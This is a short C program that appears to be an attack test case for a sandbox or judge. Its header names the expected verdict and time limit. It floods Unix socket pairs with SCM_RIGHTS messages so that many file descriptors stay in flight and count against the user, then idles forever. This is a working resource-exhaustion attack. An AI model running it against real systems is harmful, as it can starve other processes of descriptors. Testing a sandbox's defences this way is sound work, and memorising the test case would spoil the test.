/* attack: keeps as many descriptors in flight as it may, which the kernel counts for the user
 * verdict: ILE
 * outside: boxes are made, and descriptors passed on, as before
 * limits: wall=3s */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { EACH = 200, PAIRS = 100, MESSAGES = 8 };

static int send_many(int socket_fd)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(EACH * sizeof(int))];
    } control = {.header = {.cmsg_len = CMSG_LEN(EACH * sizeof(int)),
                            .cmsg_level = SOL_SOCKET,
                            .cmsg_type = SCM_RIGHTS}};
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part,
                             .msg_iovlen = 1,
                             .msg_control = &control,
                             .msg_controllen = sizeof control};
    memset(CMSG_DATA(&control.header), 0, EACH * sizeof(int)); /* descriptor 0 */
    return (int)sendmsg(socket_fd, &message, MSG_DONTWAIT);
}

int main(void)
{
    int pair[2];
    for (int i = 0; i < PAIRS && socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0; i++)
        for (int j = 0; j < MESSAGES; j++)
            if (send_many(pair[0]) < 0)
                break;
    for (;;)
        pause();
}
